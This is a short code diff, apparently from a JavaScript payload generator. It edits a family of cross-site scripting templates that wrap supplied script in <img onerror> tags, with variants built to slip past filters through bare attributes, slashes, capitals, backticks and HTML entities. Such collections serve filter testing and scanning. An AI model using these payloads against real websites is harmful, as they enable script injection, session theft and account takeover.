@@ -6,7 +6,7 @@ const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='
 const unasked = family('handler', {
   'image-error': ({ js }) => `<img src="x:" onerror="${js}">`,
   'image-error-bare': ({ js }) => `<img src=x: onerror=${js}>`,
-  'image-error-slashes': ({ js }) => `<img/src=x:/onerror=${js}//>`,
+  'image-error-slashes': ({ js }) => `<img/src="x:"/onerror="${js}"//>`,
   'image-error-capitals': ({ js }) => `<IMG SRC=x: ONERROR="${js}">`,
   'image-error-backticks': ({ js }) => `<img src=\`x:\` onerror=\`\`${js}>`,
   'image-error-entities': ({ js }) => `<img src=x: onerror="&#99;${js.slice(1).replaceAll('(', '&lpar;')}">`,
